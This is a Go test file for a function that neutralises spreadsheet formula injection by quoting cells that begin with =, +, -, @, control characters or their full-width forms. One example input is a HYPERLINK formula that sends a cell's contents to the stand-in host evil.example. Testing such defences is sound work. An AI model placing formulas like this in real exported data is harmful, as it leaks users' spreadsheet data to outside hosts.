package grader

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
)

func ExampleNeutraliseFormula() {
	for _, name := range []string{"山田 太郎", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "-2+3", "@SUM(A1)", "a=b"} {
		fmt.Println(NeutraliseFormula(name))
	}
	// Output:
	// 山田 太郎
	// '=HYPERLINK("http://evil.example/?"&A1,"click")
	// '-2+3
	// '@SUM(A1)
	// a=b
}

func TestNeutraliseFormula(t *testing.T) {
	tests := []struct{ cell, want string }{
		{"", ""},
		{"Yamada", "Yamada"},
		{"=1+1", "'=1+1"},
		{"+81 3", "'+81 3"},
		{"-x", "'-x"},
		{"@x", "'@x"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠x", "'＠x"},
		{" =1", " =1"}, // a leading space: spreadsheets show it as text
		{"'=1", "'=1"}, // already text
		{"合計 = 30", "合計 = 30"},
	}
	for _, tc := range tests {
		t.Run(fmt.Sprintf("%q", tc.cell), func(t *testing.T) {
			assert.Equal(t, tc.want, NeutraliseFormula(tc.cell))
		})
	}
}
